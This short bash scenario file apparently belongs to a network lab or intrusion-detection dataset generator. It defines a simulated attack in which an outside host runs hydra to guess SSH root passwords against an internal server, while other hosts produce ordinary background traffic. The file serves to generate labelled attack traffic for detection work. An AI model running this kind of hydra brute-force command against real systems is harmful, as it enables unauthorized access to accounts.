# shellcheck shell=bash disable=SC2034
TITLE='hydra guesses SSH passwords from outside'
KIND=attack
ATTACKER=(203.0.113.50)
VICTIMS=(10.20.0.22)
NEEDS=(web ssh intra)
PROGRAMS=(hydra openssh-server curl nginx-light unbound nsd)
ORIGIN='An outside host runs "hydra -l root -P (90 words) -t 4 -w 2 ssh://10.20.0.22"; sshd refuses every password. pc11 to pc13 browse meanwhile and pc12 logs in once over ssh with a key. Times as recorded.'

attack() {
  seq -f 'password%03g' 1 90 >"$W/etc/words"
  chmod 644 "$W/etc/words"
  (sleep 4; ssh_key pc12 'date -u') &
  on evil timeout 240 hydra -I -l root -P "$W/etc/words" -t 4 -w 2 ssh://10.20.0.22
}

scenario() { with_life 'pc11 pc12 pc13' attack; }
